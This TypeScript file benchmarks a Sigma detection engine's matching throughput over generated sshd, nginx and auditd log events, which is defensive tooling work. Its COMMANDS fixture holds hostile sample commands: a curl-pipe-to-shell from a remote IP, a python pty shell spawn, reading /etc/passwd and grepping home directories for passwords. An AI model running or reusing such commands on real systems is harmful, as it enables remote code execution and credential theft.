/**
 * Sigma evaluation throughput: events/s of the Sigma engine with every SigmaHQ linux and web
 * rule loaded (rules/linux, rules/web and the linux/web ones of rules-emerging-threats and
 * rules-threat-hunting), over parsed events: the generated sshd and nginx logs of
 * `bench/out` when present, plus generated auditd process events. Parsing is done up front
 * and not timed; matching is gated by logsource as in `leuko run`.
 *
 *   npx tsx bench/sigma.ts [--events 200000] [--rounds 3]
 */
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parseArgs } from 'node:util';
import type { EcsEvent } from '../src/core/event.js';
import { SigmaEngine } from '../src/detectors/sigma/engine.js';
import { loadSigmaRules } from '../src/detectors/sigma/load.js';
import { createParser } from '../src/parsers/index.js';
import { benchStart, prepareDataset } from './lib/dataset.js';

const ROOT = path.resolve(import.meta.dirname, '..');
const SIGMAHQ = path.resolve(ROOT, '../shared/corpora/sigmahq');

export interface SigmaBenchResult {
  readonly rules: number;
  readonly fedRules: number;
  readonly events: number;
  readonly eventsPerSec: number;
  /** Events per second of CPU time used by this process (steady on a shared, loaded machine). */
  readonly eventsPerCpuSec: number;
  readonly matches: number;
}

const COMMANDS = [
  ['ls', '-la', '/var/www'],
  ['bash', '-c', 'curl -s http://203.0.113.4/x.sh | sh'],
  ['base64', '-d', '/tmp/payload'],
  ['systemctl', 'restart', 'nginx'],
  ['python3', '-c', 'import pty;pty.spawn("/bin/bash")'],
  ['cat', '/etc/passwd'],
  ['grep', '-r', 'password', '/home'],
  ['crontab', '-l'],
];

/** Deterministic auditd EXECVE events (SYSCALL + EXECVE + CWD + EOE), parsed by our parser. */
function auditEvents(n: number): EcsEvent[] {
  const parse = createParser('auditd', { clock: { now: () => 0 } });
  const out: EcsEvent[] = [];
  for (let i = 0; i < n; i++) {
    const cmd = COMMANDS[i % COMMANDS.length]!;
    const head = `msg=audit(1718362801.${String(i % 1000).padStart(3, '0')}:${i + 1}):`;
    const exe = `/usr/bin/${cmd[0]}`;
    const lines = [
      `type=SYSCALL ${head} arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ppid=1 pid=${1000 + (i % 30000)} auid=1000 uid=1000 gid=1000 euid=1000 comm="${cmd[0]}" exe="${exe}" key=(null)`,
      `type=EXECVE ${head} argc=${cmd.length} ${cmd.map((a, j) => `a${j}=${Buffer.from(a).toString('hex').toUpperCase()}`).join(' ')}`,
      `type=CWD ${head} cwd="/home/alice"`,
      `type=EOE ${head} `,
    ];
    for (const l of lines) {
      const r = parse(l);
      if (r) out.push(r.event);
    }
  }
  return out;
}

function fileEvents(format: string, file: string, limit: number): EcsEvent[] {
  if (!existsSync(file)) return [];
  const parse = createParser(format, { clock: { now: () => Date.now() }, logPath: file });
  const out: EcsEvent[] = [];
  for (const line of readFileSync(file, 'utf8').split('\n')) {
    if (out.length >= limit) break;
    const r = line === '' ? null : parse(line);
    if (r) out.push(r.event);
  }
  return out;
}

/** Load the rules, build the events, time `rounds` passes; returns the best round. */
export function runSigmaBench(opts: { events?: number; rounds?: number; outDir?: string } = {}): SigmaBenchResult {
  const perKind = Math.max(1000, Math.floor((opts.events ?? 150_000) / 3));
  const outDir = opts.outDir ?? path.join(ROOT, 'bench/out');
  const set = loadSigmaRules(
    [
      path.join(SIGMAHQ, 'rules/linux'),
      path.join(SIGMAHQ, 'rules/web'),
      path.join(SIGMAHQ, 'rules-emerging-threats'),
      path.join(SIGMAHQ, 'rules-threat-hunting'),
    ],
    { placeholders: {} },
  );
  const rules = set.rules.filter((r) => {
    const p = r.logsource.product?.toLowerCase();
    return r.route.fed && (p === 'linux' || p === undefined);
  });
  const engine = new SigmaEngine({ ...set, rules }, { gateByLogsource: true });
  const events = [
    ...fileEvents('sshd', path.join(outDir, 'auth.log'), perKind),
    ...fileEvents('nginx', path.join(outDir, 'access.log'), perKind),
    ...auditEvents(perKind),
  ];
  let best = Number.POSITIVE_INFINITY;
  let bestCpu = Number.POSITIVE_INFINITY;
  let matches = 0;
  const rounds = Math.max(1, opts.rounds ?? 3);
  for (let r = 0; r <= rounds; r++) {
    const t0 = process.hrtime.bigint();
    const c0 = process.cpuUsage();
    let m = 0;
    for (let i = 0; i < events.length; i++) {
      const ev = events[i]!;
      m += engine.evaluate(ev, i).rules.length;
    }
    const s = Number(process.hrtime.bigint() - t0) / 1e9;
    const c = process.cpuUsage(c0);
    // Round 0 warms the JIT and is not counted.
    if (r > 0) {
      best = Math.min(best, s);
      bestCpu = Math.min(bestCpu, (c.user + c.system) / 1e6);
    }
    matches = m;
  }
  return {
    rules: set.rules.length,
    fedRules: rules.length,
    events: events.length,
    eventsPerSec: events.length / best,
    eventsPerCpuSec: events.length / bestCpu,
    matches,
  };
}

export function sigmaBenchLine(r: SigmaBenchResult): string {
  return `Sigma: ${Math.round(r.eventsPerSec).toLocaleString('en-US')} events/s wall (${Math.round(r.eventsPerCpuSec).toLocaleString('en-US')} per CPU-second) with ${r.fedRules} linux/web rules fed (${r.rules} loaded), ${r.events.toLocaleString('en-US')} events (sshd, nginx, auditd), ${r.matches} matches`;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const { values } = parseArgs({ options: { events: { type: 'string' }, rounds: { type: 'string' } } });
  // Standalone: make (or reuse) the generated sshd and nginx logs the main bench uses.
  const outDir = path.join(ROOT, 'bench/out');
  prepareDataset({ outDir, lines: 100_000, seed: '1', start: benchStart(Date.now()), regen: false });
  const res = runSigmaBench({
    outDir,
    ...(values.events ? { events: Number(values.events) } : {}),
    ...(values.rounds ? { rounds: Number(values.rounds) } : {}),
  });
  console.log(sigmaBenchLine(res));
}
